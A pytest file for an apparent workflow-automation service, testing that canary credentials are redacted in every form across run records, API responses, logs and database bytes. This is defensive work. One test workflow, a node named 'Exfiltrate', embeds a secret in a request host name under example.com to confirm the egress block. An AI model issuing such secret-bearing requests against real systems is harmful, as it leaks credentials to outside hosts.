"""Nothing a run resolves leaks (SPEC §5, §7): canary credentials go out to the fakes, the echo fake
sends them back raw, base64, URL-encoded, hex and streamed in small chunks, failing nodes put them in
their error text — and afterwards no run record, API response, log line, console output or database
byte holds any of them in any form.

Two scanners look for leaks: the product's own ``derived_forms`` / ``basic_auth_forms``, and an
independent one written here (raw, random core, JSON-escaped, URL-encoded, hex, base64 at every
alignment), so the test does not only trust the code under test. Positive controls make every
check able to fail: the fakes did receive each canary, the records show ``[REDACTED:<name>]`` where
the echo put it, the logs and the database hold those markers.
"""

from __future__ import annotations

import base64
import json
import logging
import os
import re
import subprocess
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from itertools import pairwise
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus
from uuid import uuid4

import httpx
import pytest
from fastapi.testclient import TestClient
from sqlalchemy.engine import make_url

from flowvault.app import create_app
from flowvault.config import Settings
from flowvault.redaction import basic_auth_forms, derived_forms
from tests.conftest import Actor, sign_up
from tests.fakes import FakeEcho, FakeSlack
from tests.runs.conftest import allow_hosts, create_workflow, run_and_wait, secret

BEARER, BASIC, SLACK, QUERY, HOST = "Echo API", "Basic creds", "Team Slack", "query_key", "host_key"
_CORE = re.compile(r"[0-9a-f]{32}")


def canary(label: str) -> str:
    """Distinctive, with characters that make URL-encoding and base64 alignment matter."""
    return f"cnry-{label}-{uuid4().hex}/+=?&~x"


# -- the independent scanner -----------------------------------------------------------------------


def independent_forms(value: str) -> dict[str, str]:
    """Forms of ``value`` that must never appear, each mapped to how it was derived."""
    raw = value.encode()
    forms: dict[str, str] = {value: "verbatim"}
    for core in _CORE.findall(value):
        forms.setdefault(core, "its random core")
    escaped = json.dumps(value)[1:-1]
    forms.setdefault(escaped, "JSON-escaped")
    forms.setdefault(escaped.replace("/", "\\/"), "JSON-escaped with \\/")
    for how, encoded in (("quote", quote(value)), ("quote safe=''", quote(value, safe="")),
                         ("quote_plus", quote_plus(value))):
        forms.setdefault(encoded, f"URL-encoded ({how})")
        forms.setdefault(re.sub("%[0-9A-F]{2}", lambda m: m.group(0).lower(), encoded), f"URL-encoded ({how}, lower)")
    forms.setdefault(raw.hex(), "hex")
    forms.setdefault(raw.hex().upper(), "HEX")
    for offset in range(3):
        for alphabet, encode in (("standard", base64.b64encode), ("URL-safe", base64.urlsafe_b64encode)):
            encoded = encode(bytes(offset) + raw).decode().rstrip("=")
            end = len(encoded) - (1 if (offset + len(raw)) % 3 else 0)
            forms.setdefault(encoded[(0, 2, 3)[offset]:end], f"base64 {alphabet}, {offset} byte(s) before it")
    return forms


@dataclass
class Canaries:
    """Secret values by label, and every form to look for: the product's and the independent ones."""

    values: dict[str, str]
    username: str
    forms: dict[bytes, str] = field(default_factory=dict)

    def __post_init__(self) -> None:
        password = self.values["basic password"]
        wire = base64.b64encode(f"{self.username}:{password}".encode()).decode()
        for label, value in {**self.values, "basic wire token": wire}.items():
            for form, how in independent_forms(value).items():
                self.forms.setdefault(form.encode(), f"{label}: {how}")
            for form in derived_forms(value):
                self.forms.setdefault(form.encode(), f"{label}: a product-derived form")
        for form in basic_auth_forms(self.username, password):
            self.forms.setdefault(form.encode(), "basic wire token: a product-derived form")

    def find(self, haystack: str | bytes) -> list[str]:
        data = haystack.encode("utf-8", "surrogateescape") if isinstance(haystack, str) else haystack
        return sorted({how for form, how in self.forms.items() if form in data})

    def assert_absent(self, haystack: str | bytes, where: str) -> None:
        found = self.find(haystack)
        assert not found, f"secret values found in {where}: {found}"


def test_the_scanner_finds_every_form_it_claims_to() -> None:
    canaries = Canaries({"token": canary("sanity"), "basic password": canary("pw")}, username="someone")
    token = canaries.values["token"]
    planted = [
        f"x {token} y",
        json.dumps({"t": token}),
        f"?q={quote_plus(token)}",
        f"?q={quote(token, safe='').lower()}",
        token.encode().hex().upper(),
        "Basic " + base64.b64encode(f"someone:{canaries.values['basic password']}".encode()).decode(),
        "partial " + _CORE.findall(token)[0],
    ]
    planted += [base64.b64encode(os.urandom(n) + token.encode() + os.urandom(2)).decode() for n in range(3)]
    for haystack in planted:
        assert canaries.find(haystack), haystack
    assert not canaries.find("nothing [REDACTED:Echo API] here " + token[:15])


# -- what the runs exercise ------------------------------------------------------------------------


def http(node_id: str, name: str, url: str, auth: str = "none", credential_id: str | None = None,
         **config: Any) -> dict[str, Any]:
    node_config: dict[str, Any] = {"method": "GET", "url": url, "auth": auth, **config}
    if credential_id:
        node_config["credential_id"] = credential_id
    return {"id": node_id, "type": "http_request", "name": name, "config": node_config}


def chain(*nodes: dict[str, Any]) -> dict[str, Any]:
    everything = [{"id": "t", "type": "manual_trigger", "name": "Start", "config": {}}, *nodes]
    return {
        "nodes": everything,
        "edges": [{"source": a["id"], "target": b["id"]} for a, b in pairwise(everything)],
    }


def echo_every_form(echo: FakeEcho, ids: Mapping[str, str]) -> dict[str, Any]:
    bearer, basic = {"auth": "bearer", "credential_id": ids[BEARER]}, {"auth": "basic", "credential_id": ids[BASIC]}
    return chain(
        http("raw", "Raw", f"{echo.url}/echo", query={"key": "{{secrets.query_key}}"}, **bearer),
        http("b64", "B64", f"{echo.url}/echo/b64", **bearer),
        http("urlenc", "Urlenc", f"{echo.url}/echo/urlenc", **bearer),
        http("hex", "Hex", f"{echo.url}/echo/hex", **bearer),
        http("s3", "Stream3", f"{echo.url}/stream", query={"chunk": "3"}, **bearer),
        http("s1", "Stream1", f"{echo.url}/stream", query={"chunk": "1"}, **bearer),
        http("basic", "Basic", f"{echo.url}/echo", **basic),
        http("bhex", "Basichex", f"{echo.url}/echo/hex", **basic),
        http("bs1", "Basicstream", f"{echo.url}/stream", query={"chunk": "1"}, **basic),
        {"id": "copy", "type": "formatter", "name": "Copy",
         "config": {"operation": "trim",
                    "value": "{{raw.body.headers.authorization}} {{b64.body.token_b64}} {{basichex.body.token_hex}}"}},
        {"id": "slack", "type": "slack", "name": "Notify",
         "config": {"channel": "C123", "text": "all echoed", "credential_id": ids[SLACK]}},
    )


@dataclass
class Session:
    actor: Actor
    canaries: Canaries
    runs: dict[str, dict[str, Any]]
    responses: list[httpx.Response]


def exercise(client: TestClient, echo: FakeEcho, slack: FakeSlack) -> Session:
    """Signs up, stores the canaries, runs one succeeding and five failing workflows, reads everything back."""
    responses: list[httpx.Response] = []
    client.event_hooks["response"].append(responses.append)
    username = f"user-{uuid4().hex[:8]}"
    canaries = Canaries(
        {
            "bearer token": canary("bearer"),
            "basic password": canary("basic"),
            "slack token": f"xoxb-{canary('slack')}",
            "query key": canary("query"),
            "host key": f"cnry{uuid4().hex}",  # lower case: it goes into a host name
        },
        username=username,
    )
    values = canaries.values
    actor = sign_up(client, f"owner-{uuid4().hex[:8]}@example.com")
    allow_hosts(actor, echo.host)
    slack.valid_tokens = {values["slack token"]}
    ids = {
        BEARER: secret(actor, "http_bearer", BEARER, token=values["bearer token"]),
        BASIC: secret(actor, "http_basic", BASIC, username=username, password=values["basic password"]),
        SLACK: secret(actor, "slack_token", SLACK, token=values["slack token"]),
        QUERY: secret(actor, "http_bearer", QUERY, token=values["query key"]),
        HOST: secret(actor, "http_bearer", HOST, token=values["host key"]),
    }
    bearer_header = f"Bearer {values['bearer token']}"
    basic_header = "Basic " + base64.b64encode(f"{username}:{values['basic password']}".encode()).decode()
    graphs = {
        "every form": echo_every_form(echo, ids),
        "http error": chain(http("h", "Fetch", f"{echo.url}/status/500", "bearer", ids[BEARER])),
        "basic error": chain(http("h", "Fetch", f"{echo.url}/status/401", "basic", ids[BASIC])),
        "slack error": chain({"id": "s", "type": "slack", "name": "Notify",
                              "config": {"channel": "C123", "text": "hi", "credential_id": ids[SLACK]}}),
        "condition error": chain(
            http("raw", "Raw", f"{echo.url}/echo", "bearer", ids[BEARER]),
            {"id": "c", "type": "condition", "name": "Check",
             "config": {"left": "{{raw.body.headers.authorization}}", "operator": "greater", "right": 1}},
        ),
        "blocked": chain(http("h", "Exfiltrate", "http://{{secrets.host_key}}.example.com/x")),
    }
    # The failing services put the credential they received into their error answers, in several forms.
    token = values["bearer token"]
    echo.fail_next(500, f"denied {token} b64={base64.b64encode(token.encode()).decode()} hex={token.encode().hex()} "
                        f"url={quote(token, safe='')}", path="/status/500")
    echo.fail_next(401, f"bad credentials: {basic_header}", path="/status/401")
    runs: dict[str, dict[str, Any]] = {}
    for label, graph in graphs.items():
        if label == "slack error":
            slack.fail_next(200, {"ok": False, "error": f"invalid_auth:{values['slack token']}"},
                            path="/api/chat.postMessage")
        runs[label] = run_and_wait(actor, create_workflow(actor, graph, name=f"Leaks: {label}")["id"])

    # Positive controls: every canary really went out, so there was something to leak.
    assert echo.requests_to("/echo/b64")[0].headers["authorization"] == bearer_header
    assert echo.requests_to("/status/401")[0].headers["authorization"] == basic_header
    assert echo.saw(values["query key"]) and slack.saw(values["slack token"])
    assert slack.messages[0].token == values["slack token"]

    ws = f"/api/v1/workspaces/{actor.workspace_id}"
    for path in ("/runs", "/runs?status=failed", "/logs/blocked-egress", "/audit", "/secrets", "/workflows",
                 *(f"/runs/{run['id']}" for run in runs.values()),
                 *(f"/secrets/{secret_id}" for secret_id in ids.values())):
        assert actor.get(ws + path).status_code == 200, path
    client.event_hooks["response"].remove(responses.append)
    return Session(actor, canaries, runs, responses)


def steps_of(run: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {step["node_id"]: step for step in run["steps"]}


def check_records(session: Session) -> None:
    """Where the echo and the error texts put a canary, the record shows the redaction marker."""
    runs, values = session.runs, session.canaries.values
    every = runs["every form"]
    assert every["status"] == "succeeded", every
    steps = steps_of(every)
    bearer, basic = f"[REDACTED:{BEARER}]", f"[REDACTED:{BASIC}]"
    raw = steps["raw"]["output"]["body"]
    assert raw["headers"]["authorization"] == f"Bearer {bearer}"
    assert raw["query"] == f"key=[REDACTED:{QUERY}]" and raw["args"] == {"key": f"[REDACTED:{QUERY}]"}
    assert steps["raw"]["input"]["query"] == {"key": f"[REDACTED:{QUERY}]"}
    assert steps["b64"]["output"]["body"] == {"token_b64": bearer}
    assert steps["urlenc"]["output"]["body"] == {"q": bearer}
    assert steps["hex"]["output"]["body"] == {"token_hex": bearer}
    assert steps["s3"]["output"]["body"] == steps["s1"]["output"]["body"] == f"Bearer {bearer}"
    assert steps["basic"]["output"]["body"]["headers"]["authorization"] == f"Basic {basic}"
    assert steps["bhex"]["output"]["body"] == {"token_hex": b"Basic ".hex() + basic}
    assert steps["bs1"]["output"]["body"] == f"Basic {basic}"
    copied = f"Bearer {bearer} {bearer} {b'Basic '.hex()}{basic}"
    assert steps["copy"]["input"]["value"] == steps["copy"]["output"]["value"] == copied
    assert [c["name"] for c in steps["slack"]["credentials"]] == [SLACK]

    def failed_step(label: str) -> dict[str, Any]:
        run = runs[label]
        assert run["status"] == "failed", run
        return next(step for step in run["steps"] if step["status"] == "failed")

    assert failed_step("http error")["error"].startswith(
        f"HTTP 500 from 127.0.0.2: denied {bearer} b64={bearer} hex={bearer} url={bearer}")
    assert f"bad credentials: Basic {basic}" in failed_step("basic error")["error"]
    assert f"invalid_auth:[REDACTED:{SLACK}]" in failed_step("slack error")["error"]
    assert f"'Bearer {bearer}'" in failed_step("condition error")["error"]
    assert failed_step("blocked")["error"].startswith(f"[REDACTED:{HOST}].example.com is not on")
    for label in ("http error", "basic error", "slack error", "condition error", "blocked"):
        assert "[REDACTED:" in runs[label]["error"], runs[label]["error"]
    assert values["bearer token"] not in str(runs)  # the simplest check first; the scanners follow


def transcript(response: httpx.Response) -> bytes:
    head = f"{response.request.method} {response.request.url} -> HTTP {response.status_code}\n"
    head += "".join(f"{k}: {v}\n" for k, v in response.headers.multi_items())
    return head.encode() + response.content


# -- the checks ------------------------------------------------------------------------------------


def test_run_records_and_api_responses_hold_no_canary(
    settings: Settings, fake_echo: FakeEcho, fake_slack: FakeSlack
) -> None:
    with TestClient(create_app(settings)) as client:
        session = exercise(client, fake_echo, fake_slack)
    check_records(session)

    everything = b"\n".join(transcript(r) for r in session.responses)
    assert f"[REDACTED:{BEARER}]".encode() in everything and f"[REDACTED:{HOST}].example.com".encode() in everything
    assert session.canaries.find(everything + session.canaries.values["slack token"].encode())  # the scan bites
    assert len(session.responses) > 30
    for response in session.responses:
        where = f"the response to {response.request.method} {response.request.url.path}"
        session.canaries.assert_absent(transcript(response), where)


def test_server_logs_and_console_hold_no_canary(
    settings: Settings, fake_echo: FakeEcho, fake_slack: FakeSlack,
    caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str],
) -> None:
    caplog.set_level(logging.DEBUG)
    for name in list(logging.root.manager.loggerDict):
        caplog.set_level(logging.DEBUG, logger=name)
    for name in ("sqlalchemy", "httpx", "httpcore", "flowvault"):
        caplog.set_level(logging.DEBUG, logger=name)

    with TestClient(create_app(settings)) as client:
        session = exercise(client, fake_echo, fake_slack)
    check_records(session)

    logged = caplog.text + "\n".join(repr(vars(record)) for record in caplog.records)
    console = capfd.readouterr()
    # Controls: DEBUG reached the database layer, and the guarded client's request log line for the
    # query that carried a canary was captured — masked.
    assert any(record.name.startswith("sqlalchemy.engine") for record in caplog.records)
    assert f"key=[REDACTED:{QUERY}]" in logged, "the request log line with the templated secret is missing"
    assert session.canaries.find(logged + session.canaries.values["query key"])
    session.canaries.assert_absent(logged, "the log records")
    session.canaries.assert_absent(console.out, "stdout")
    session.canaries.assert_absent(console.err, "stderr")


def sqlite_bytes(settings: Settings) -> bytes:
    db = settings.data_dir / "flowvault.db"
    paths = (db, db.with_name(db.name + "-wal"), db.with_name(db.name + "-shm"))
    return b"".join(path.read_bytes() for path in paths if path.exists())


def pg_dump(settings: Settings) -> bytes:
    pg_bin = os.environ["FLOWVAULT_TEST_PG_BIN"]
    assert settings.database_url
    url = make_url(settings.database_url).set(drivername="postgresql").render_as_string(hide_password=False)
    dump = subprocess.run([str(Path(pg_bin) / "pg_dump"), "--no-owner", "--dbname", url],
                          capture_output=True, check=False, timeout=120)
    assert dump.returncode == 0, dump.stderr.decode(errors="replace")
    # COPY text escapes non-ASCII and backslashes; bytea is hex: decode those too so nothing hides.
    decoded = [bytes.fromhex(m.decode()) for m in re.findall(rb"\\\\x((?:[0-9a-fA-F]{2})+)", dump.stdout)]
    return dump.stdout + b"\n" + b"\n".join(decoded)


@pytest.fixture
def stored_bytes(settings: Settings, backend: str) -> Iterator[Any]:
    if backend == "postgresql" and not os.environ.get("FLOWVAULT_TEST_PG_BIN"):
        pytest.skip("FLOWVAULT_TEST_PG_BIN is unset: no pg_dump to read the PostgreSQL database with")
    yield sqlite_bytes if backend == "sqlite" else pg_dump


def test_database_bytes_hold_no_canary(
    settings: Settings, fake_echo: FakeEcho, fake_slack: FakeSlack, stored_bytes: Any
) -> None:
    snapshots: dict[str, bytes] = {}
    with TestClient(create_app(settings)) as client:
        session = exercise(client, fake_echo, fake_slack)
        snapshots["while serving (database and WAL)"] = stored_bytes(settings)
    snapshots["after shutdown"] = stored_bytes(settings)
    check_records(session)

    for where, stored in snapshots.items():
        # Controls: the run records are in these bytes, masked where the echo put the canaries.
        for run in session.runs.values():
            assert run["id"].encode() in stored, where
        for name in (BEARER, BASIC, SLACK, QUERY, HOST):
            assert f"[REDACTED:{name}]".encode() in stored, (where, name)
        session.canaries.assert_absent(stored, f"the database bytes {where}")
